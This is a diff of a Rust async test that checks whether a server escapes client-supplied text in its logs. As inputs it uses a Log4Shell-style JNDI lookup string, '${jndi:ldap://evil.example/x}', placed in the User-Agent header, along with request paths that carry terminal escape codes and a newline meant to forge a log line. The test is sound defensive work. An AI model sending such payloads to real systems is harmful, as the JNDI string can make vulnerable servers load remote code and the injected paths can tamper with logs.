@@ -153,7 +153,8 @@ async fn the_program_serves_both_versions_on_one_port() {
 async fn text_of_clients_is_escaped_in_the_log() {
     let hub = ScriptedRegistry::new();
     let larder = Process::before(hub.listen().await, "").await;
-    let agent = [("User-Agent", "${jndi:ldap://evil.example/x}"), ("X-A", "evil.example")];
+    let agent = "${jndi:ldap://evil.example/x}\u{fc}";
+    let agent = [("User-Agent", agent), ("X-A", "secret.example")];
     for path in [
         "/v2/a%1b[31m/manifests/latest",
         "/v2/a%0aforged: line/manifests/latest".replace(' ', "%20").as_str(),
@@ -163,12 +164,17 @@ async fn text_of_clients_is_escaped_in_the_log() {
         let raw = larder.raw();
         drop(raw.get("1.1", path, &agent).await.unwrap());
     }
-    larder.until(|larder| larder.log().matches("request").count() >= 4, "four lines").await;
+    // The other two are no HTTP.
+    let lines = |larder: &Process| larder.log().matches(" larder::request: ").count();
+    larder.until(|larder| lines(larder) == 2, "two lines").await;
 
     let log = larder.log();
     let is_raw = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
     assert_eq!(log.chars().find(|c| is_raw(*c)), None, "{log}");
-    assert!(!log.contains("evil.example") && !log.contains("\nforged"), "{log}");
+    assert!(log.contains(r"\\x24{jndi:ldap://evil.example/x}\\xc3\\xbc"), "{log}");
+    for never in ["${", "secret.example", "\nforged"] {
+        assert!(!log.contains(never), "{log}");
+    }
 }
 
 /// The operator at a terminal, and the script that has to have the machine free, ask twice.
